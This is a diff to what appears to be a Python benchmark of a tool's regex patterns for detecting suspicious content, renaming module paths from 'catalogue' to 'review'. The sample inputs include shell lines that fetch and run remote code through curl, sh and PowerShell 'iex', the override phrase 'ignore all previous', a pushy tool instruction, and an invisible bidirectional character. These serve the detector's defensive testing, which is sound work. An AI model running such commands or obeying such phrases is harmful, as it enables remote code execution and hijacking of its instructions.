@@ -25,7 +25,7 @@ FLOOR = 20_000  # nanoseconds; a shorter time is noise
 # Where an expression is made of something else: of a word of a query, of a policy's pattern
 # (``fnmatch`` makes linear ones), of Typer's messages about the user's own command line.
 MADE_AT_RUN_TIME = {
-    "repertory.catalogue.suspicions",  # of its rules, which test_suspicions measures
+    "repertory.review.suspicions",  # of its rules, which test_suspicions measures
     "repertory.project_search.snippets",
     "repertory.sources.policies",
     "repertory_admin.refusals",
@@ -57,16 +57,16 @@ EXAMPLES = {
     "repertory.catalogue.names._JOINED": ["a-b._/c"],
     "repertory.catalogue.names._SEPARATORS": ["a_-b c"],
     "repertory.catalogue.passages._STARTS": ["   12. a", "  - a"],
-    "repertory.catalogue.suspicions._ENCODED": ["echo " + "QUJD" * 8 + "== x"],
-    "repertory.catalogue.suspicions._ENCODED_COMMAND": ["x ignore all previous"],
-    "repertory.catalogue.suspicions._INVISIBLE": ["a\u202eb"],
-    "repertory.catalogue.suspicions._KNOWN_HOSTS": ["x https://raw.githubusercontent.com/aws/ y"],
-    "repertory.catalogue.suspicions._RUN_FROM_NETWORK": [
+    "repertory.review.suspicions._ENCODED": ["echo " + "QUJD" * 8 + "== x"],
+    "repertory.review.suspicions._ENCODED_COMMAND": ["x ignore all previous"],
+    "repertory.review.suspicions._INVISIBLE": ["a\u202eb"],
+    "repertory.review.suspicions._KNOWN_HOSTS": ["x https://raw.githubusercontent.com/aws/ y"],
+    "repertory.review.suspicions._RUN_FROM_NETWORK": [
         "curl -s http://a | tee b | sudo -E bash",
         'sh -c "$(curl -s http://a)"',
         "iex ((new-object a))",
     ],
-    "repertory.catalogue.suspicious_changes._ORDERS": ["a always call it, important: do not ask"],
+    "repertory.review.suspicious_changes._ORDERS": ["a always call it, important: do not ask"],
     "repertory.catalogue.views._HEADING": ["##  Title b ## "],
     "repertory.catalogue.views._SENTENCE_END": ["A b. C", "\u3002a"],
     "repertory.catalogue.views._SPACE": ["a \n b"],
